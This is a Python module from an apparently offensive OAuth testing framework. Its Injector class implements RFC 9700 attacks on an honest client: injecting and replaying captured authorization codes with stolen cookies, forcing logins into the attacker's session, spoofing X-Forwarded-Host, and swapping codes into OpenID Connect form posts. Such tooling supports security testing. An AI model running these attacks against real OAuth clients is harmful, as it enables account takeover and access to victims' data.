"""The attacker's own browser at the honest client: injection, and logins of its own.

RFC 9700 section 4.5. The client redeems a stolen code for the attacker, with its own secret, and
the attacker's session shows the victim's data. Or the other way round (section 4.7): the attacker's
own code is meant for the victim's session.
"""

import secrets
from typing import Any, NamedTuple, Protocol
from urllib.parse import urlencode, urlsplit

from attacker.loot import LootBag, LootItem, NothingCapturedError
from attacker.vantage import Leg


class Browser(Protocol):
    """What the attacker sits in front of. It has an account of its own, as any customer has."""

    async def open(self, url: str, headers: dict[str, str] | None = None) -> Any:
        """Go to an address; ``headers`` are sent on top."""
        ...

    async def bring(self, url: str, cookies: str) -> Any:
        """Go to an address with cookies that are somebody else's."""
        ...

    async def post(self, url: str, fields: dict[str, str]) -> Any:
        """Send a form of one's own making."""
        ...

    async def sign_in(self, url: str) -> Any:
        """Go to an address, sign in with the own account, and stop before the redirect back."""
        ...

    def filled_in(self) -> Any:
        """The sign-in form of this page, with the own account in it."""
        ...

    async def sign_in_as(self, url: str, username: str, password: str) -> Any:
        """Go to an address, and sign in with this account, all the way."""
        ...


class Cookie(NamedTuple):
    """A cookie, and the URL of the server that it is for."""

    url: str
    name: str
    value: str
    path: str


class Injector:
    """The attacker's browser at the honest client. ``client`` is the client's public address."""

    def __init__(self, browser: Browser, loot: LootBag, client: str) -> None:
        self.browser = browser
        self._loot = loot
        self.client = client
        self._headers: dict[str, str] = {}
        self._answered_at = ""

    async def start_own_login(self, server: str = "") -> LootItem | None:
        """Begin a login in the attacker's own session; the ``state`` that the client gave it.

        ``server`` is the issuer to sign in at, if not the client's usual one. ``None`` for a client
        that gives no state.
        """
        choice = f"?{urlencode({'server': server})}" if server else ""
        await self._open(f"{self.client}{choice}")
        return self._loot.find("state", Leg.OWN)

    def claim_host(self, host: str) -> None:
        """Say in every request from now on that it came to the client under this name.

        RFC 9700 section 4.13: what only a proxy in front of it should say.
        """
        self._headers = {"X-Forwarded-Host": host}

    async def sign_in(self) -> LootItem:
        """A login with the attacker's own account; its code, which the client never gets to see.

        Raises :class:`attacker.loot.NothingCapturedError`.
        """
        await self.browser.sign_in(self.client)
        return self._loot.need("code", Leg.OWN)

    async def answer_to(self, request: LootItem) -> str | None:
        """The redirect that the own account gets for a request that is not the attacker's own.

        ``None`` where the provider does not go on with it.
        """
        await self.browser.sign_in(request.value)
        return self.own_answer() if self._loot.find("code", Leg.OWN) else None

    async def sign_in_with(self, username: LootItem | None, password: LootItem | None) -> None:
        """A login at the client with somebody else's account, given what that takes."""
        if username is not None and password is not None:
            await self.browser.sign_in_as(self.client, username.value, password.value)

    def own_answer(self) -> str:
        """The redirect that ended :meth:`sign_in`, for whoever shall open it."""
        return self.answer_with(self._loot.need("code", Leg.OWN), self._loot.find("state", Leg.OWN))

    def own_form(self) -> Any:
        """The sign-in form that the browser shows, filled in with the attacker's own account."""
        return self.browser.filled_in()

    def own_cookie(self, url: str) -> Cookie:
        """What tells the attacker's own session at the server of a URL from those of others.

        Raises :class:`attacker.loot.NothingCapturedError`.
        """
        host = urlsplit(url).netloc
        for seen in reversed(self._loot.sightings):
            if "session" in seen.parameters and urlsplit(seen.text).netloc == host:
                return Cookie(url, *(seen.parameters[key] for key in ("name", "session", "path")))
        raise NothingCapturedError(f"{host} has given the attacker no cookie")

    def link_for_own_session(self) -> str:
        """A link that starts a login at the client, and names the attacker's session."""
        return f"{self.client}?{urlencode({'for': self.own_cookie(self.client).value})}"

    def own_request(self, **changes: str | None) -> str:
        """The authorization request of the newest own login, for somebody else to follow.

        Whoever does gets a code for the challenge and the nonce of the attacker's session (RFC 9700
        section 4.5.4). ``changes`` replaces parameters, or leaves them out where the value is
        ``None``. Raises :class:`attacker.loot.NothingCapturedError`.
        """
        request = self._loot.own_request()
        changed = {**request.parameters, **changes}
        sent = {name: value for name, value in changed.items() if value is not None}
        url = f"{request.text.partition('?')[0]}?{urlencode(sent)}"
        if changes:
            where = "written on the way to somebody else"
            item = LootItem("authorization_request", url, Leg.OWN, request.seen_in, where)
            self._loot.add(item)
        return url

    def spoilt_request(self, **changes: str) -> str:
        """The same with a ``state`` that no client knows, so that nobody uses the code."""
        return self.own_request(state=secrets.token_urlsafe(16), **changes)

    async def inject(self, code: LootItem | None, state: LootItem | None) -> None:
        """Answer the client as the provider would, with a captured code, if there is one."""
        if code is None:
            return
        await self._open(self.answer_with(code, state))

    async def replay(
        self, code: LootItem | None, state: LootItem | None, cookies: LootItem | None
    ) -> None:
        """Send the client a captured request as a whole: the answer, and the cookies with it."""
        if code is not None and cookies is not None:
            await self.browser.bring(self.answer_with(code, state), cookies.value)

    async def inject_into_own_form(self, code: LootItem | None) -> None:
        """Send the form that ended :meth:`sign_in`, with a captured code in place of its own.

        OpenID Connect Core section 3.3.2.5: beside the code it has an ID token. Raises
        :class:`attacker.loot.NothingCapturedError`.
        """
        if code is not None:
            own = (self._loot.find(kind, Leg.OWN) for kind in ("id_token", "state", "iss"))
            form = {each.kind: each.value for each in (code, *own) if each is not None}
            await self.browser.post(self._redirect_uri, form)

    def answer_with(self, code: LootItem, state: LootItem | None) -> str:
        """The redirect that brings a code to the client, as the provider would write it."""
        answer = {"code": code.value}
        if state is not None:
            answer["state"] = state.value
        if issuer := self._loot.find("iss", code.leg):
            answer["iss"] = issuer.value
        return f"{self._redirect_uri}?{urlencode(answer)}"

    async def look_at_session(self) -> None:
        """Ask the client who is signed in here."""
        await self._open(f"{self._redirect_uri}/me")

    async def _open(self, url: str) -> None:
        await self.browser.open(url, self._headers)

    @property
    def _redirect_uri(self) -> str:
        """Where the client takes answers, as the first login has shown."""
        self._answered_at = self._answered_at or self._loot.need("redirect_uri", Leg.OWN).value
        return self._answered_at
